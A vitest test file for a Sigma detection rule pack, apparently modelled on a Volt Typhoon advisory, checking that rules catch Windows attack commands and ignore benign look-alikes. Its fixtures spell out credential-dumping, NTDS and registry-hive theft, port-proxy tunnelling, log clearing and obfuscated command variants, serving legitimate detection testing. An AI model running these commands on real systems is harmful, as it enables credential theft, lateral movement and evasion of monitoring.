/**
 * The built-in rule pack (rules/sigma): every rule loads; each fires on the shared samples of the
 * technique it implements; and it still fires on the ways the same command can be written (case,
 * carets, quotes, switch styles, full paths, renamed binaries, Base64-encoded PowerShell) while
 * staying quiet on the benign look-alikes listed with each behaviour. Rules are named by file.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { SigmaEngine } from '../../src/detect/sigma/engine.js';
import { loadRules } from '../../src/detect/sigma/load.js';
import type { RawEvent } from '../../src/ingest/raw-event.js';
import { normalize } from '../../src/normalize/normalize.js';
import { DATA, HAS_DATA, readAllItems, runCli } from '../helpers.js';

const pack = loadRules(['rules/sigma']);
const engine = new SigmaEngine(pack.rules);
const nameOf = new Map(pack.rules.map((r) => [r.id, path.basename(r.file, '.yml')]));

function fired(events: RawEvent[]): Map<string, number> {
  const out = new Map<string, number>();
  for (const e of events)
    for (const a of engine.evaluate(normalize(e))) {
      const name = nameOf.get(a.rule.id) ?? a.rule.id;
      out.set(name, (out.get(name) ?? 0) + 1);
    }
  return out;
}

function sysmon1(CommandLine: string, Image = 'C:\\Windows\\System32\\cmd.exe', extra = {}): RawEvent {
  return {
    time: Date.UTC(2023, 4, 16),
    provider: 'Microsoft-Windows-Sysmon',
    channel: 'Microsoft-Windows-Sysmon/Operational',
    eventId: 1,
    computer: 'FS02',
    recordId: 1,
    origin: { file: 'variants', format: 'json' },
    data: { CommandLine, Image, ParentImage: 'C:\\Windows\\explorer.exe', ...extra },
  };
}

const encoded = (script: string) =>
  `powershell.exe -nop -w hidden -E ${Buffer.from(script, 'utf16le').toString('base64')}`;

describe('the built-in rule pack', () => {
  it('loads every rule, each with ATT&CK tags, a level, false positives and its advisory item', () => {
    expect(pack.problems).toEqual([]);
    expect(pack.rules.length).toBeGreaterThanOrEqual(20);
    for (const r of pack.rules) {
      expect(r.author, r.file).toBe('lotl');
      expect(
        r.tags.some((t) => /^attack\.t\d{4}/.test(t)),
        r.file,
      ).toBe(true);
      // Building-block signals (signal_*.yml) are informational: the correlate stage uses them.
      if (path.basename(r.file).startsWith('signal_')) expect(r.level, r.file).toBe('informational');
      else expect(['low', 'medium', 'high', 'critical'], r.file).toContain(r.level);
    }
  });

  /** Each behaviour: commands that must fire the rule, and look-alikes that must not fire it. */
  const VARIANTS: { rule: string; fire: RawEvent[]; quiet: RawEvent[] }[] = [
    {
      rule: 'lsass_dump_comsvcs',
      fire: [
        sysmon1(
          'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\out.dmp full',
          'C:\\Windows\\System32\\rundll32.exe',
        ),
        sysmon1('RUNDLL32 COMSVCS.DLL MINIDUMP 624 c:\\t.bin FULL'),
        sysmon1('cmd /c r^undll32 com^svcs.dll,#24 624 c:\\t.bin full'),
        sysmon1('rundll32 "C:\\Windows\\System32\\comsvcs.dll" "MiniDump" 624 t.dmp full'),
        sysmon1(
          encoded(
            'Get-Process lsass | % { rundll32.exe comsvcs.dll, MiniDump $_.Id C:\\Windows\\Temp\\m.dmp full }',
          ),
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        ),
      ],
      quiet: [sysmon1('rundll32.exe shell32.dll,Control_RunDLL'), sysmon1('regsvr32 /s comsvcs.dll')],
    },
    {
      rule: 'lsass_dump_tools',
      fire: [
        sysmon1('procdump.exe -accepteula -ma lsass.exe lsass.dmp', 'C:\\Tools\\procdump.exe'),
        sysmon1('p.exe /ma lsass.exe out.dmp', 'C:\\Users\\Public\\p.exe', { OriginalFileName: 'procdump' }),
        sysmon1(
          'rdrleakdiag.exe /p 624 /o c:\\t /fullmemdmp /wait 1',
          'C:\\Windows\\System32\\rdrleakdiag.exe',
        ),
      ],
      quiet: [sysmon1('procdump.exe -ma notepad.exe n.dmp', 'C:\\Tools\\procdump.exe')],
    },
    {
      rule: 'ntdsutil_ifm',
      fire: [
        sysmon1(
          'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q',
          'C:\\Windows\\System32\\ntdsutil.exe',
        ),
        sysmon1(
          'NTDSUTIL.EXE "activate instance ntds" ifm "create full C:\\Windows\\Temp\\pro" quit quit',
          'C:\\Windows\\System32\\ntdsutil.exe',
        ),
        sysmon1('n.exe "ac i ntds" "ifm" "cr fu c:\\t" q q', 'C:\\Users\\Public\\n.exe', {
          OriginalFileName: 'ntdsutil.exe',
        }),
        sysmon1(
          'wmic /node:DC01 process call create "cmd.exe /c ntdsutil \\"ac i ntds\\" ifm \\"create full C:\\Windows\\Temp\\Pro\\""',
          'C:\\Windows\\System32\\wbem\\WMIC.exe',
        ),
        sysmon1('cmd /c n^tdsutil "ac i ntds" "i^fm" "create sysvol full c:\\x" q q'),
      ],
      quiet: [
        sysmon1('ntdsutil "ac i ntds" "files" "info" q q', 'C:\\Windows\\System32\\ntdsutil.exe'),
        sysmon1('ntdsutil "metadata cleanup" q', 'C:\\Windows\\System32\\ntdsutil.exe'),
      ],
    },
    {
      rule: 'netsh_portproxy',
      fire: [
        sysmon1(
          'netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.0.0.5 connectport=8443',
          'C:\\Windows\\System32\\netsh.exe',
        ),
        sysmon1('NETSH INTERFACE PORTPROXY  SET  v6tov4 listenport=1 connectaddress=1.2.3.4'),
        sysmon1(
          'netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=10.1.1.1',
          'C:\\Windows\\System32\\netsh.exe',
        ),
        sysmon1(
          'wmic process call create "netsh interface portproxy add v4tov6 listenport=50100 connectaddress=fd00::5 connectport=1433"',
        ),
      ],
      quiet: [
        sysmon1('netsh interface portproxy show all'),
        sysmon1('netsh interface portproxy dump'),
        // Forwarding to this machine's own loopback, and removals: netsh_portproxy_local.
        sysmon1(
          'netsh interface portproxy add v4tov4 listenport=8080 connectaddress=127.0.0.1 connectport=80',
        ),
        sysmon1('cmd.exe /c "netsh interface portproxy delete v4tov4 listenport=9999"'),
      ],
    },
    {
      rule: 'netsh_portproxy_local',
      fire: [
        sysmon1('cmd.exe /c "netsh interface portproxy delete v4tov4 listenport=9999"'),
        sysmon1(
          'wmic process call create "netsh interface portproxy add v4tov6 listenport=50100 connectaddress=::1 connectport=1433"',
        ),
        sysmon1('netsh i p a v l=80 c=127.0.0.1 connectp=8080', 'C:\\Windows\\System32\\netsh.exe'),
        sysmon1('netsh interface portproxy reset'),
      ],
      quiet: [
        sysmon1('netsh interface portproxy show all'),
        sysmon1(
          'netsh interface portproxy add v4tov4 listenport=9999 connectaddress=10.0.0.5 connectport=8443',
        ),
      ],
    },
    {
      rule: 'ntds_shadow_copy',
      fire: [
        sysmon1('vssadmin create shadow /for=C:', 'C:\\Windows\\System32\\vssadmin.exe'),
        sysmon1('wmic shadowcopy call create Volume=C:\\'),
        sysmon1(
          'cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit',
        ),
      ],
      quiet: [sysmon1('vssadmin list shadows'), sysmon1('vssadmin delete shadows /all /quiet')],
    },
    {
      rule: 'registry_hive_save',
      fire: [
        sysmon1('reg save HKLM\\SAM C:\\t\\sam.hive', 'C:\\Windows\\System32\\reg.exe'),
        sysmon1('"reg" save "hklm\\system" c:\\t\\s', 'C:\\Windows\\System32\\reg.exe'),
        sysmon1('reg save HKLM\\security\\policy\\secrets C:\\t\\x', 'C:\\Windows\\System32\\reg.exe'),
      ],
      quiet: [
        sysmon1(
          'reg export "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Winlogon\\Notifications" n.reg /y',
          'C:\\Windows\\System32\\reg.exe',
        ),
        sysmon1('reg query HKLM\\SAM', 'C:\\Windows\\System32\\reg.exe'),
      ],
    },
    {
      rule: 'wmic_remote_process',
      fire: [
        sysmon1(
          'wmic /node:10.0.0.7 process call create "cmd.exe /c whoami"',
          'C:\\Windows\\System32\\wbem\\WMIC.exe',
        ),
        sysmon1('WMIC -node:"DC01" PROCESS CALL CREATE "calc"', 'C:\\Windows\\System32\\wbem\\WMIC.exe'),
      ],
      quiet: [
        sysmon1('wmic process call create "notepad"', 'C:\\Windows\\System32\\wbem\\WMIC.exe'),
        sysmon1('wmic /node:DC01 os get caption'),
      ],
    },
    {
      rule: 'archive_with_password',
      fire: [
        sysmon1('7z.exe a -pS3cret out.7z C:\\data', 'C:\\Program Files\\7-Zip\\7z.exe'),
        sysmon1('x.exe a -mhe=on -pP@ss c:\\t\\o.7z c:\\d', 'C:\\Users\\Public\\x.exe', {
          OriginalFileName: '7z.exe',
        }),
        sysmon1('rar.exe a -hpP4ss out.rar C:\\data', 'C:\\Program Files\\WinRAR\\rar.exe'),
      ],
      quiet: [
        sysmon1('7z.exe a out.7z C:\\data', 'C:\\Program Files\\7-Zip\\7z.exe'),
        sysmon1('7z.exe x -pS3cret in.7z', 'C:\\Program Files\\7-Zip\\7z.exe'),
      ],
    },
    {
      rule: 'logon_event_query',
      fire: [
        sysmon1('wevtutil qe security /rd:true /f:text /q:"*[System[(EventID=4624)]]"'),
        sysmon1(
          encoded("Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4624} -MaxEvents 100"),
          'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        ),
      ],
      quiet: [sysmon1('wevtutil qe system /c:10'), sysmon1('wevtutil gl security')],
    },
    {
      rule: 'log_cleared_cmdline',
      fire: [
        sysmon1('wevtutil cl Security'),
        sysmon1('wevtutil.exe clear-log System'),
        sysmon1(encoded('Clear-EventLog -LogName Security')),
      ],
      quiet: [sysmon1('wevtutil el'), sysmon1('wevtutil gli Security')],
    },
    {
      rule: 'frp_reverse_proxy',
      fire: [
        sysmon1('frpc.exe -c frpc.ini', 'C:\\Users\\Public\\frpc.exe'),
        sysmon1('svchost.exe -c C:\\Users\\Public\\frpc.toml', 'C:\\Users\\Public\\svchost.exe'),
        sysmon1('update.exe', 'C:\\Windows\\Temp\\update.exe', { OriginalFileName: 'frpc.exe' }),
      ],
      quiet: [sysmon1('svchost.exe -k netsvcs', 'C:\\Windows\\System32\\svchost.exe')],
    },
    {
      rule: 'virtualization_check',
      fire: [
        sysmon1('wmic computersystem get manufacturer,model', 'C:\\Windows\\System32\\wbem\\WMIC.exe'),
        sysmon1('cmd /c systeminfo | findstr /i "VMware VirtualBox"'),
        sysmon1(encoded('(Get-WmiObject Win32_ComputerSystem).Model')),
      ],
      quiet: [sysmon1('wmic computersystem get name'), sysmon1('systeminfo')],
    },
    {
      rule: 'powershell_encoded',
      fire: [
        sysmon1(encoded('whoami /all')),
        sysmon1(`pwsh -ec ${Buffer.from('Get-Process', 'utf16le').toString('base64')}`),
      ],
      quiet: [sysmon1('powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1')],
    },
    {
      rule: 'winrs_remote',
      fire: [
        sysmon1('winrs -r:http://dc01:5985 "cmd /c whoami"', 'C:\\Windows\\System32\\winrs.exe'),
        sysmon1('cmd.exe /c ipconfig', 'C:\\Windows\\System32\\cmd.exe', {
          ParentImage: 'C:\\Windows\\System32\\winrshost.exe',
        }),
      ],
      quiet: [sysmon1('winrs /?', 'C:\\Windows\\System32\\winrs.exe')],
    },
    {
      rule: 'impacket_exec',
      fire: [
        sysmon1('cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1684242000.123 2>&1'),
        sysmon1(
          'cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > C:\\Windows\\TEMP\\execute.bat',
        ),
      ],
      quiet: [sysmon1('cmd.exe /c dir \\\\fileserver\\share')],
    },
  ];

  for (const v of VARIANTS) {
    it(`${v.rule}: fires on every variant, stays quiet on the look-alikes`, () => {
      expect([...nameOf.values()]).toContain(v.rule);
      v.fire.forEach((e, i) => {
        expect(fired([e]).has(v.rule), `variant ${i}: ${String(e.data.CommandLine)}`).toBe(true);
      });
      v.quiet.forEach((e, i) => {
        expect(fired([e]).has(v.rule), `look-alike ${i}: ${String(e.data.CommandLine)}`).toBe(false);
      });
    });
  }

  /** The samples named in the shared data's README ("Where the target techniques appear"). */
  const SAMPLES: [string, string[]][] = [
    [
      'evtx-attack-samples/Credential Access/sysmon_10_1_memdump_comsvcs_minidump.evtx',
      ['lsass_dump_comsvcs'],
    ],
    [
      'evtx-attack-samples/Credential Access/sysmon_10_11_lsass_memdump.evtx',
      ['lsass_dump_file', 'lsass_access_dump_rights'],
    ],
    ['evtx-attack-samples/Credential Access/sysmon_rdrleakdiag_lsass_dump.evtx', ['lsass_dump_tools']],
    [
      'evtx-to-mitre-attack/TA0006-Credential Access/T1003-Credential dumping/ID1-LSASS dump with LSASSY (SYSMON).evtx',
      ['lsass_dump_comsvcs'],
    ],
    [
      'security-datasets/datasets/compound/LSASS_campaign_02/metasploit_procdump_lsass_memory_dump.zip',
      ['lsass_dump_tools', 'lsass_access_dump_rights'],
    ],
    [
      'security-datasets/datasets/compound/LSASS_campaign_03/metasploit_comsvcs_lsass_memory_dump.zip',
      ['lsass_dump_comsvcs'],
    ],
    ['evtx-attack-samples/Credential Access/dc_applog_ntdsutil_dfir_325_326_327.evtx', ['ntds_esent_copy']],
    [
      'evtx-to-mitre-attack/TA0006-Credential Access/T1003-Credential dumping/ID4688-IFM created.evtx',
      ['ntdsutil_ifm'],
    ],
    [
      'evtx-to-mitre-attack/TA0006-Credential Access/T1003-Credential dumping/ID325-327-IFM created - ESENT.evtx',
      ['ntds_esent_copy'],
    ],
    [
      'evtx-to-mitre-attack/TA0006-Credential Access/T1003-Credential dumping/ID4688-Diskshadow abuse.evtx',
      ['diskshadow_script'],
    ],
    [
      'security-datasets/datasets/atomic/windows/credential_access/host/cmd_dumping_ntds_dit_file_ntdsutil.zip',
      ['ntdsutil_ifm'],
    ],
    [
      'security-datasets/datasets/atomic/windows/credential_access/host/cmd_dumping_ntds_dit_file_volume_shadow_copy.zip',
      ['ntds_shadow_copy', 'registry_hive_save'],
    ],
    ['evtx-attack-samples/Defense Evasion/de_portforward_netsh_rdp_sysmon_13_1.evtx', ['portproxy_registry']],
    [
      'evtx-to-mitre-attack/TA0011-Command and Control/T1572-Protocol tunneling/ID4688-netsh RDP port forwarding abuse.evtx',
      ['netsh_portproxy', 'netsh_portproxy_local'],
    ],
    [
      'evtx-attack-samples/Lateral Movement/LM_wmiexec_impacket_sysmon_whoami.evtx',
      ['impacket_exec', 'wmiprvse_shell_child'],
    ],
    [
      'evtx-to-mitre-attack/TA0002-Execution/T1047-Windows Management Instrumentation/ID4688-5145-WMIexec execution via SMB.evtx',
      ['impacket_exec'],
    ],
    [
      'security-datasets/datasets/atomic/windows/lateral_movement/host/empire_wmic_add_user_backdoor.zip',
      ['wmic_remote_process'],
    ],
    ['evtx-attack-samples/Credential Access/CA_chrome_firefox_opera_4663.evtx', ['browser_credentials']],
    [
      'security-datasets/datasets/atomic/windows/credential_access/host/rdp_interactive_taskmanager_lsass_dump.zip',
      ['lsass_handle_memory_read', 'lsass_access_dump_rights', 'lsass_dump_file'],
    ],
    ['evtx-attack-samples/Lateral Movement/LM_renamed_psexecsvc_5145.evtx', ['remote_exec_named_pipes']],
    [
      'evtx-to-mitre-attack/TA0008-Lateral Movement/T1021.003-Distributed Component Object Model (DCOM)/ID4688,4674-DCOMexec process spawned.evtx',
      ['dcom_mmc_embedding'],
    ],
    [
      'security-datasets/datasets/atomic/windows/credential_access/host/psh_windows_vault_web_credentials_2020-10-2819191483.json',
      ['signal_credential_manager_read'],
    ],
    ['evtx-attack-samples/Defense Evasion/DE_104_system_log_cleared.evtx', ['log_cleared_event']],
    [
      'evtx-to-mitre-attack/TA0005-Defense Evasion/T1070.001-Clear Windows event logs/ID4688-Clear event log attempt (native).evtx',
      ['log_cleared_cmdline'],
    ],
  ];

  describe.runIf(HAS_DATA)('on the shared samples of each technique', () => {
    for (const [file, expected] of SAMPLES) {
      it(`${path.basename(file)} → ${expected.join(', ')}`, async () => {
        const { events } = await readAllItems([path.join(DATA, file)]);
        const got = fired(events);
        for (const rule of expected) expect(got.get(rule) ?? 0, `${rule} on ${file}`).toBeGreaterThan(0);
      });
    }
  });

  it("maps each of the advisory's Defender detections and alert titles to a rule, and says so in the alert", async () => {
    const named = new Map<string, string[]>();
    for (const r of pack.rules)
      for (const d of r.defender ?? []) named.set(d, [...(named.get(d) ?? []), nameOf.get(r.id)!]);
    for (const d of [
      // Microsoft Defender Antivirus (the advisory's nine).
      'Behavior:Win32/SuspNtdsUtilUsage.A',
      'Behavior:Win32/SuspPowershellExec.E',
      'Behavior:Win32/SuspRemoteCmdCommandParent.A',
      'Behavior:Win32/UNCFilePathOperation',
      'Behavior:Win32/VSSAmsiCaller.A',
      'Behavior:Win32/WinrsCommand.A',
      'Behavior:Win32/WmiSuspProcExec.J!se',
      'Behavior:Win32/WmicRemote.A',
      'Behavior:Win32/WmiprvseRemoteProc.B',
      // Microsoft Defender for Endpoint alert titles (the advisory's six).
      'Volt Typhoon threat actor detected',
      'A machine was configured to forward traffic to a non-local address',
      'Ntdsutil collecting Active Directory information',
      'Password hashes dumped from LSASS memory',
      'Suspicious use of wmic.exe to execute code',
      'Impacket toolkit',
    ])
      expect(named.get(d)?.length ?? 0, d).toBeGreaterThan(0);
    const { stdout } = await runCli(['hunt', '--format', 'jsonl', '--rule', 'ntdsutil', 'examples/']);
    const alert = JSON.parse(stdout.trim().split('\n')[0]);
    expect(alert.rule.defender).toContain('Ntdsutil collecting Active Directory information');
  });

  it('raises its correlation rules on the sequences they name, and not on either step alone', () => {
    const withCorrelations = new SigmaEngine(pack.rules, { correlations: pack.correlations });
    const at = (minute: number, e: RawEvent): RawEvent => ({ ...e, time: Date.UTC(2023, 4, 16, 10, minute) });
    const titles = (events: RawEvent[]) =>
      events
        .flatMap((e) => withCorrelations.evaluate(normalize(e)))
        .filter((a) => a.rule.kind === 'correlation')
        .map((a) => a.rule.title);
    const save = sysmon1('reg save hklm\\sam C:\\Windows\\Temp\\sam.save', 'C:\\Windows\\System32\\reg.exe');
    const move = sysmon1(
      'cmd.exe /c move C:\\Windows\\Temp\\sam.save \\\\10.0.0.9\\c$\\users\\public\\sam.save',
    );
    expect(titles([at(0, save), at(5, move)])).toEqual(['Registry Hives Saved, Then Moved']);
    expect(titles([at(0, move), at(5, save)])).toEqual([]);
    const netsh = 'C:\\Windows\\System32\\netsh.exe';
    const add = sysmon1(
      'netsh interface portproxy add v4tov4 listenport=9999 connectaddress=10.0.0.5 connectport=8443',
      netsh,
    );
    const remove = sysmon1('netsh interface portproxy delete v4tov4 listenport=9999', netsh);
    expect(titles([at(0, add), at(40, remove)])).toEqual([
      'Port Proxy To Another Host, Then Changed Or Removed',
    ]);
    expect(titles([at(0, add)])).toEqual([]);
  });

  it('fires on the behaviours the shared samples lack, written as test/fixtures/pack-behaviours.jsonl', async () => {
    const { events } = await readAllItems([path.join('test', 'fixtures', 'pack-behaviours.jsonl')]);
    const want = [
      'silent_process_exit_lsass',
      'silent_process_exit_lsass',
      'dcom_powershell_exec',
      'dcom_powershell_exec',
      'proxy_settings_registry',
      'proxy_settings_cmdline',
      'remote_exec_named_pipes',
      'lsass_dumped_on_exit',
    ];
    expect(events).toHaveLength(want.length);
    for (const [i, e] of events.entries())
      expect([...fired([e]).keys()], `record ${i + 1}`).toContain(want[i]);
  });

  it('lotl hunt examples/ shows every behaviour of the scenario, as alerts valid against docs/alert.schema.json', async () => {
    const { code, stdout } = await runCli(['hunt', '--format', 'jsonl', 'examples/']);
    expect(code).toBe(0);
    const alerts = stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const validate = new Ajv({ allErrors: true }).compile(
      JSON.parse(readFileSync('docs/alert.schema.json', 'utf8')),
    );
    for (const a of alerts) expect(validate(a), JSON.stringify(validate.errors)).toBe(true);
    const names = new Set(alerts.map((a) => nameOf.get(a.rule.id) ?? a.rule.kind));
    // The scenario (examples/README.md) exercises every rule of the pack but frp_reverse_proxy (its
    // FRP binary is renamed and has no version information: the hash finds it).
    for (const behaviour of [
      'signal_discovery_system',
      'logon_event_query',
      'lsass_dump_comsvcs',
      'lsass_access_dump_rights',
      'lsass_dump_file',
      'ntdsutil_ifm',
      'ntds_esent_copy',
      'wmic_remote_process',
      'ioc',
      'netsh_portproxy',
      'portproxy_registry',
      'archive_with_password',
      'powershell_encoded',
      'virtualization_check',
      'lsass_dump_tools',
      'registry_hive_save',
      'browser_credentials_cmdline',
      'winrs_remote',
      'impacket_exec',
      'wmiprvse_shell_child',
      'ntds_shadow_copy',
      'log_cleared_cmdline',
      'log_cleared_event',
    ])
      expect(names, behaviour).toContain(behaviour);
    // Valid JSON that breaks the contract is caught (the schema is not vacuous).
    expect(validate({ ...alerts[0], rule: { ...alerts[0].rule, level: 'severe' } })).toBe(false);
  });

  it.runIf(HAS_DATA)('rules/hunts holds the advisory hunting queries verbatim, with their metadata', () => {
    const hunts = readdirSync('rules/hunts').filter((f) => f.endsWith('.kql'));
    const accepted = readFileSync(path.join(DATA, '..', 'kql', 'acceptance.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { name: string; query: string });
    expect(hunts.length).toBe(accepted.length);
    for (const q of accepted) {
      const file = hunts.find((h) =>
        readFileSync(path.join('rules/hunts', h), 'utf8').startsWith(`// title: ${q.name}\n`),
      );
      expect(file, q.name).toBeDefined();
      const text = readFileSync(path.join('rules/hunts', file!), 'utf8');
      for (const key of ['source', 'tables', 'techniques'])
        expect(text, `${file} ${key}`).toMatch(new RegExp(`^// ${key}: \\S`, 'm'));
      const body = text
        .split('\n')
        .filter((l) => !l.startsWith('// '))
        .join('\n');
      expect(body.trim()).toBe(q.query.trim());
    }
  });
});
